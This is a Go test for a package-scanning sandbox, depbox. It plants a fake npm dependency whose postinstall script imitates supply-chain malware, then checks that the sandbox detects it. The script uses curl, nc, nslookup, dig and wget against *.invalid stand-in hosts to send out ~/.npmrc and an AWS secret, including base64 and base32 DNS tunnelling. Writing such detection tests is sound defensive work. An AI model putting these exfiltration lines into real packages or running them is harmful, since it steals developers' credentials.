package scan_test

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/depbox/depbox/internal/scan"
	"github.com/depbox/depbox/profile"
)

// TestSandboxTools: the tools malware reaches for are in the sandbox and
// get as far as the fake internet; a program that does not exist is still
// recorded, with its command line. The postinstall imitates the beacons
// and uploads of real incidents; it runs only in the sandbox and reaches
// only *.invalid names.
func TestSandboxTools(t *testing.T) {
	if missing := scan.MissingTools(); len(missing) > 0 {
		t.Fatalf("the host lacks %v: %s (.ci/run installs them)", missing, scan.ToolsFix(missing))
	}
	script := `curl -s -F x="$(cat ~/.npmrc)" http://npm.exfil.invalid/u >/dev/null 2>&1; ` +
		`nslookup $(hostname).dns.exfil.invalid >/dev/null 2>&1; ` +
		`ping -c 1 -W 1 ping.exfil.invalid >/dev/null 2>&1; ` +
		`wget -q -O /dev/null http://wget.exfil.invalid/stage2 2>/dev/null; ` +
		`dig +short "$(echo c-$(hostname) | base32 | tr -d = | rev).b32.exfil.invalid" >/dev/null 2>&1; ` +
		`printf %s "$AWS_SECRET_ACCESS_KEY" | base64 | nc -w 1 nc.exfil.invalid 8080 >/dev/null 2>&1; ` +
		`python3 -c 'import os' ; powershell -enc SQBFAFgA >/dev/null 2>&1; true`
	dir := t.TempDir()
	writeBundle(t, dir, map[string]string{
		"package.json":                     `{"name":"fn","version":"1.0.0","dependencies":{"beacon":"1.0.0"}}`,
		"index.js":                         `exports.handler = async () => 1;`,
		"node_modules/beacon/package.json": `{"name":"beacon","version":"1.0.0","scripts":{"postinstall":` + strconv.Quote(script) + `}}`,
		"node_modules/beacon/index.js":     `module.exports = 1;`,
	})
	p := run(t, options(t, dir))
	b := phaseOf(t, p, "node_modules/beacon", profile.PhaseInstall)
	for _, want := range []struct {
		prog, result string
	}{{"curl", "ok"}, {"nslookup", "ok"}, {"ping", "ok"}, {"wget", "ok"}, {"base64", "ok"}, {"base32", "ok"}, {"rev", "ok"}, {"dig", "ok"}, {"nc", "ok"}, {"python3", "ok"}, {"powershell", "ENOENT"}} {
		if !slices.ContainsFunc(b.Processes, func(pr profile.Process) bool {
			return len(pr.Argv) > 0 && pr.Argv[0] == want.prog && pr.Result == want.result
		}) {
			t.Errorf("no %s (result %s) among the processes %+v", want.prog, want.result, b.Processes)
		}
	}
	if !hasExfil(b, "NPM_TOKEN", "argv", "/usr/bin/curl", "raw") {
		t.Errorf("the token on curl's command line is not exfiltration: %+v", b.Exfiltration)
	}
	if !slices.ContainsFunc(b.Exfiltration, func(e profile.Exfil) bool {
		return e.Canary == "AWS_SECRET_ACCESS_KEY" && e.Channel == "network" && e.Encoding == "base64" && strings.HasPrefix(e.Destination, "nc.exfil.invalid:")
	}) {
		t.Errorf("the secret nc sent, base64-encoded, is not exfiltration of the package: %+v", b.Exfiltration)
	}
	// base32 and rev (mimecast-web-components, 2026): dig must get the
	// reversed base32 label, not an empty one it refuses to query.
	if !slices.ContainsFunc(b.Processes, func(pr profile.Process) bool {
		return len(pr.Argv) == 3 && pr.Argv[0] == "dig" && len(pr.Argv[2]) > len(".b32.exfil.invalid") && strings.HasSuffix(pr.Argv[2], ".b32.exfil.invalid")
	}) {
		t.Errorf("dig did not get a base32 label: %+v", b.Processes)
	}
	for _, host := range []string{"npm.exfil.invalid", "wget.exfil.invalid", "nc.exfil.invalid"} {
		if !slices.ContainsFunc(b.Network, func(n profile.Endpoint) bool { return n.Host == host }) {
			t.Errorf("no connection to %s in %+v", host, b.Network)
		}
	}
	for _, pr := range p.Problems {
		if pr.Code == "tools-missing" {
			t.Errorf("unexpected problem %+v", pr)
		}
	}
}
